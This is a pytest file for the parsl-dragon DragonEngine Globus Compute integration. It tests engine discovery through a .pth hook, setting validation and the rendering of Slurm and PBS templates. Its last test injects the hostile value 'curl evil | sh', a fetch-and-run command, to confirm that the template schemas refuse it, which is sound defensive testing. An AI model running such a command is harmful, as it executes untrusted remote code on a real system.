"""DragonEngine without a runtime: how an endpoint finds it, its settings, its HA answer, its templates.

Blocks, tasks and the interchange are in tests/integration/test_globus_compute.py.
"""
import importlib.metadata
import json
import os
import pathlib
import pwd
import shutil
import site
import subprocess
import sys
import textwrap
import types
import uuid
import zipfile

import pytest
from globus_compute_endpoint.endpoint.config.config import CoreEndpointConfig, UserEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import load_config_yaml, render_config_user_template
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity
from parsl.launchers import SimpleLauncher, SingleNodeLauncher, SrunLauncher
from parsl.providers import LocalProvider, PBSProProvider, SlurmProvider

from parsl_dragon import ConfigurationError, DragonExecutor, DragonLauncher
from parsl_dragon.driver.futures import BlockFigures
from parsl_dragon.globus_compute import registration
from parsl_dragon.globus_compute.engine import DragonEngine
from parsl_dragon.globus_compute.report import _queued, _running

REPO = pathlib.Path(__file__).resolve().parents[2]
TEMPLATES = REPO / "configs" / "globus_compute"


# ---- how an endpoint finds the engine ---------------------------------------------------------

def test_an_endpoint_process_that_imports_only_globus_compute_finds_dragon_engine(tmp_path):
    """As a user endpoint process does: YAML in, engine out, nothing of ours imported beforehand."""
    script = textwrap.dedent("""
        import sys
        from globus_compute_endpoint.endpoint.config.utils import load_config_yaml
        assert not any(m.startswith("parsl_dragon.globus_compute.engine") for m in sys.modules)
        config = load_config_yaml('''
        engine:
          type: DragonEngine
          workers_per_node: 3
          pmi: none
          address:
            type: address_by_hostname
          provider:
            type: LocalProvider
            init_blocks: 1
            max_blocks: 1
        ''')
        engine = config.engine
        from parsl.addresses import address_by_hostname
        assert engine.executor.address == address_by_hostname()  # the address: sub-dict, built by name
        print(type(engine).__module__, type(engine).__name__, engine.executor.workers_per_node,
              engine.executor.pmi, type(engine.executor.provider.launcher).__name__)
    """)
    out = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["parsl_dragon.globus_compute.engine", "DragonEngine", "3", "none",
                                  "DragonLauncher"]


def test_without_the_site_hook_the_name_is_unknown(tmp_path):
    """The check above can fail: with .pth files skipped (-S) the endpoint does not know the name."""
    script = ("import sys; sys.path.extend(sys.argv[1:]); "
              "import globus_compute_endpoint.engines as e; print(hasattr(e, 'DragonEngine'))")
    out = subprocess.run([sys.executable, "-S", "-c", script, str(REPO), *site.getsitepackages()], cwd=tmp_path,
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "False"


def test_the_hook_file_is_installed_and_recorded():
    """pip recorded the .pth (so uninstall removes it) and it holds setup.py's line."""
    installed = importlib.metadata.Distribution.discover(name="parsl-dragon", path=site.getsitepackages())
    files = next(iter(installed)).files  # the installed record, not a source tree's egg-info
    pth = [f for f in files if f.name == "parsl_dragon_globus_compute.pth"]
    assert len(pth) == 1 and str(pth[0]) == "parsl_dragon_globus_compute.pth"  # the top of site-packages
    line = pth[0].locate().read_text()
    assert "parsl_dragon.globus_compute.registration" in line and "install()" in line


def test_a_built_wheel_carries_the_hook_at_its_root_and_the_hook_works(tmp_path):
    """What users install is a wheel, not this editable tree: build one, install it under a prefix, and
    let Python's site machinery (addsitedir, which runs .pth files) find the engine from that copy."""
    source = tmp_path / "source"  # a copy: building in the tree would leave build/ and egg-info behind
    shutil.copytree(REPO, source, ignore=shutil.ignore_patterns(
        ".venv", ".git", "build", "*.egg-info", "runinfo", "demo-output", "__pycache__", ".pytest_cache"))
    build = subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "-q", "-w", str(tmp_path / "dist"),
                            str(source)], capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, build.stderr[-3000:]
    wheel = next((tmp_path / "dist").glob("parsl_dragon-*.whl"))
    with zipfile.ZipFile(wheel) as archive:
        assert "parsl_dragon_globus_compute.pth" in archive.namelist()
    prefix = tmp_path / "prefix"
    # --ignore-installed: otherwise pip would first uninstall this venv's own (editable) parsl-dragon
    install = subprocess.run([sys.executable, "-m", "pip", "install", "--no-deps", "--ignore-installed", "-q",
                              "--prefix", str(prefix), str(wheel)], capture_output=True, text=True, timeout=600)
    assert install.returncode == 0, install.stderr[-3000:]
    wheel_site = next(prefix.glob("lib/python*/site-packages"))
    script = ("import sys, site; sys.path.extend(sys.argv[2:]); site.addsitedir(sys.argv[1]); "
              "import globus_compute_endpoint.engines as e; print(e.DragonEngine.__module__, "
              "sys.modules['parsl_dragon'].__file__.startswith(sys.argv[1]))")
    # -S: none of this venv's .pth files (its editable parsl_dragon); its other packages by path only
    # and no PYTHONPATH (the integration tests put this tree on it): parsl_dragon must come from the wheel
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    out = subprocess.run([sys.executable, "-S", "-c", script, str(wheel_site), *site.getsitepackages()],
                         cwd=tmp_path, capture_output=True, text=True, timeout=120, env=env)
    assert out.returncode == 0, out.stderr[-3000:]
    assert out.stdout.split() == ["parsl_dragon.globus_compute.engine", "True"]
    assert importlib.metadata.version("parsl-dragon")  # this venv's own install is untouched


def _module(name="fake_engines", **attrs):
    module = types.ModuleType(name)
    module.__dict__.update(attrs)
    return module


def test_expose_adds_the_name_keeps_the_modules_own_getattr_and_is_idempotent():
    module = _module(__getattr__=lambda name: "theirs" if name == "Other" else (_ for _ in ()).throw(
        AttributeError(name)))
    registration.expose(module)
    registration.expose(module)
    assert module.DragonEngine is DragonEngine
    assert module.Other == "theirs"
    assert "DragonEngine" in dir(module)
    with pytest.raises(AttributeError):
        module.Missing


def test_a_broken_engine_import_is_reported_not_hidden(monkeypatch):
    """getattr(engines, "DragonEngine", None) must not turn a broken install into 'not a valid engine'."""
    monkeypatch.setattr(registration, "ENGINE_MODULE", "parsl_dragon.globus_compute.no_such_module")
    module = _module()
    registration.expose(module)
    with pytest.raises(ModuleNotFoundError, match="no_such_module"):
        getattr(module, "DragonEngine", None)


def test_install_exposes_an_engines_module_already_imported(monkeypatch):
    module = _module(registration.ENGINES_MODULE)
    monkeypatch.setitem(sys.modules, registration.ENGINES_MODULE, module)
    monkeypatch.setattr(sys, "meta_path", list(sys.meta_path))
    registration.install()
    registration.install()
    assert module.DragonEngine is DragonEngine
    assert sum(isinstance(f, registration.EnginesFinder) for f in sys.meta_path) == 1


def test_the_finder_wraps_only_the_engines_module():
    finder = registration.EnginesFinder()
    assert finder.find_spec("json", None) is None
    import globus_compute_endpoint  # the import system passes a submodule's parent __path__

    spec = finder.find_spec(registration.ENGINES_MODULE, globus_compute_endpoint.__path__)
    assert isinstance(spec.loader, registration.ExposingLoader)
    assert spec.loader.is_package(registration.ENGINES_MODULE)  # the wrapped loader's own methods still answer


# ---- settings ---------------------------------------------------------------------------------

def test_executor_settings_pass_through_and_a_run_once_launcher_becomes_dragon_launcher():
    provider = SlurmProvider(nodes_per_block=4, launcher=SimpleLauncher(debug=False))
    engine = DragonEngine(provider=provider, workers_per_node=7, pmi="cray", available_accelerators=["0", "1"],
                          transport="tcp", timeout_ms=1234, max_retries_on_system_failure=2)
    executor = engine.executor
    assert isinstance(executor, DragonExecutor) and executor.label == "DragonEngine"
    assert (executor.workers_per_node, executor.pmi, executor.transport) == (7, "cray", "tcp")
    assert executor.timeout_ms == 1234
    assert executor.available_accelerators == ["0", "1"]
    assert isinstance(provider.launcher, DragonLauncher) and provider.launcher.debug is False
    assert engine.max_retries_on_system_failure == 2
    assert engine.block_nodes == 4


def test_parsls_default_launcher_is_replaced_and_per_node_launchers_are_refused_at_start(tmp_path):
    provider = SlurmProvider(nodes_per_block=2)
    assert isinstance(provider.launcher, SingleNodeLauncher)
    DragonEngine(provider=provider)
    assert isinstance(provider.launcher, DragonLauncher)
    engine = DragonEngine(provider=SlurmProvider(nodes_per_block=2, launcher=SrunLauncher()))
    with pytest.raises(ConfigurationError, match="SrunLauncher starts one copy"):
        engine.start(endpoint_id=uuid.uuid4(), run_dir=str(tmp_path))
    assert not engine._engine_ready


@pytest.mark.parametrize("kwargs, needle", [
    ({"max_workers_per_node": 4}, "'max_workers_per_node' (a GlobusComputeEngine setting): use workers_per_node"),
    ({"encrypted": False}, "always CURVE-encrypted"),
    ({"executor": DragonExecutor(), "pmi": "none"}, "give them to the executor"),
])
def test_settings_that_mean_nothing_here_are_refused_by_name(kwargs, needle):
    with pytest.raises(ConfigurationError) as info:
        DragonEngine(**kwargs)
    assert needle in str(info.value)


def test_an_unknown_setting_names_itself_through_the_endpoints_yaml():
    with pytest.raises(Exception, match="unexpected keyword argument 'no_such_setting'"):
        load_config_yaml("engine:\n  type: DragonEngine\n  no_such_setting: 1\n")


def test_start_needs_the_endpoint_id_and_run_dir(tmp_path):
    with pytest.raises(ConfigurationError, match="endpoint_id and run_dir"):
        DragonEngine().start(run_dir=str(tmp_path))


def test_high_assurance_only_for_blocks_of_one_node():
    DragonEngine(provider=LocalProvider(nodes_per_block=1)).assert_ha_compliant()
    with pytest.raises(ValueError, match="span 2 nodes.*not encrypted"):
        DragonEngine(provider=SlurmProvider(nodes_per_block=2)).assert_ha_compliant()


def test_report_estimates_running_and_queued_until_a_server_heartbeat_says():
    fresh = BlockFigures("0", "s", "h", ["h"], workers=2, in_flight=5, running=None, queued=None)
    assert (_running(fresh), _queued(fresh)) == (2, 3)
    told = BlockFigures("0", "s", "h", ["h"], workers=2, in_flight=5, running=1, queued=4)
    assert (_running(told), _queued(told)) == (1, 4)


# ---- site templates ---------------------------------------------------------------------------

def _render(site: str, options: dict) -> UserEndpointConfig:
    template = TEMPLATES / site / "user_config_template.yaml.j2"
    schema = json.loads((TEMPLATES / site / "user_config_schema.json").read_text())
    identity = MappedPosixIdentity(local_user_record=pwd.getpwuid(os.getuid()), matched_identity=uuid.UUID(int=0),
                                   globus_identity_candidates=[])
    rendered = render_config_user_template(CoreEndpointConfig(), template.read_text(), template, identity,
                                           user_config_schema=schema, user_opts=options)
    return load_config_yaml(rendered)


def test_the_slurm_template_renders_into_a_dragon_engine_on_slurm():
    config = _render("slurm", {"account": "m1234", "venv": "/global/common/software/m1234/venv",
                               "nodes_per_block": 4, "walltime": "00:30:00", "qos": "debug"})
    engine = config.engine
    assert isinstance(engine, DragonEngine)
    provider = engine.executor.provider
    assert isinstance(provider, SlurmProvider) and isinstance(provider.launcher, DragonLauncher)
    assert (provider.account, provider.qos) == ("m1234", "debug")
    assert (provider.nodes_per_block, provider.walltime) == (4, "00:30:00")
    assert 'source "/global/common/software/m1234/venv"/bin/activate' in provider.worker_init  # shell-quoted
    assert (engine.executor.workers_per_node, engine.executor.pmi) == (62, "cray")
    assert engine.max_retries_on_system_failure == 1
    assert engine.executor.available_accelerators == 4


def test_the_pbs_template_renders_into_a_dragon_engine_on_pbs_pro():
    config = _render("pbs", {"account": "MyProject", "venv": "/eagle/MyProject/venv", "queue": "prod",
                             "nodes_per_block": 8})
    provider = config.engine.executor.provider
    assert isinstance(provider, PBSProProvider) and isinstance(provider.launcher, DragonLauncher)
    assert (provider.account, provider.queue, provider.nodes_per_block, provider.select_options) == (
        "MyProject", "prod", 8, "ngpus=4")
    assert "#PBS -l filesystems=home:eagle" in provider.scheduler_options
    assert config.engine.executor.workers_per_node == 30


@pytest.mark.parametrize("site", ["slurm", "pbs"])
def test_the_templates_schemas_refuse_what_they_do_not_name(site):
    with pytest.raises(Exception, match="worker_init|additional"):
        _render(site, {"account": "a", "venv": "/v", "worker_init": "curl evil | sh"})
